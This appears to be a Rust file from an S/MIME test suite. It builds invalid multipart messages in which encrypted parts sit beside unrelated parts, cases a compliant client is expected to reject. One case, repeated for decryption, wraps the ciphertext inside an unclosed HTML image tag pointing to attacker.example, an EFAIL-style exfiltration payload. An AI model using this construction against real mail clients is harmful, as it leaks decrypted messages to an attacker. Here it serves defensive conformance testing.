//! `open/errant`: encrypted parts that are not the message.

use smime_cases::{Form, Op};

use super::{layers::envelope, mail};
use crate::{
    cases::common::dave,
    primitive::cipher::Cipher,
    template::{
        book::Book,
        message::Message,
        mime::{FROM_ALICE, TEXT, pkcs7_entity},
        people::People,
    },
};

pub(super) fn write(book: &mut Book, people: &People) {
    let envelope = envelope(people, Cipher::AesCbc(128)).around(TEXT);
    let part = pkcs7_entity("", "enveloped-data", &envelope.fields().node().encode());
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n").into_bytes();
    let plain = |text: &str| format!("Content-Type: text/plain\r\n\r\n{text}\r\n").into_bytes();
    let mixed = |parts: &[&[u8]]| -> Message {
        let mut octets = FROM_ALICE.as_bytes().to_vec();
        octets.extend(b"Content-Type: multipart/mixed; boundary=\"mixed\"\r\n\r\n");
        for part in parts {
            octets.extend(b"--mixed\r\n");
            octets.extend(*part);
            octets.extend(b"\r\n");
        }
        octets.extend(b"--mixed--\r\n");
        let mut message = Message::new(Op::Open, octets, Form::Mime);
        dave(people).prepare(&mut message.context);
        for feature in envelope.features() {
            message = message.needing(feature);
        }
        message.needing("enveloped-mail")
    };
    let opened = "open/mail/enveloped-opened";
    let mut bad = |id: &str, title: &str, why: &str, message: Message| {
        book.invalid(id, opened, "errant-layer", message)
            .text(title, why)
            .requires(&["rfc8551-6-7", "rfc8551-6-8"])
            .class("errant-layer");
    };
    bad(
        "open/errant/exfiltration",
        "an encrypted part between two parts of the attacker's",
        "The first part opens an image's address and does not close it, the second is ciphertext that the attacker took from elsewhere, the third closes it. A client that decrypts the part in its place and shows all as one page sends the plaintext to the attacker. Only a layer around the whole message counts.",
        mixed(&[
            &html("<img src=\"http://attacker.example/"),
            &part,
            &html("\">"),
        ]),
    );
    bad(
        "open/errant/footer",
        "a list's footer after an encrypted part",
        "A mailing list wrapped the message and put its footer after it. The part by itself is what it was; the message is not.",
        mixed(&[&part, &plain("-- \r\nThe list")]),
    );
    bad(
        "open/errant/text-before",
        "text before an encrypted part",
        "Somebody put a part in front. Shown as one, it says what the sender did not.",
        mixed(&[&plain("Please pay at once."), &part]),
    );
    bad(
        "open/errant/alone-in-mixed",
        "an encrypted part alone in a multipart/mixed",
        "One part, and that is ciphertext. The multipart around it is nobody's.",
        mixed(&[&part]),
    );
    let decrypted = mixed(&[
        &html("<img src=\"http://attacker.example/"),
        &part,
        &html("\">"),
    ]);
    book.invalid(
        "open/errant/exfiltration-decrypted",
        mail::BASIC,
        "errant-layer",
        decrypted.to(Op::Decrypt),
    )
    .text(
        "the same, to be decrypted",
        "Who is asked to decrypt the message does not decrypt a part of it.",
    )
    .requires(&["rfc8551-6-8"])
    .class("errant-layer");
}
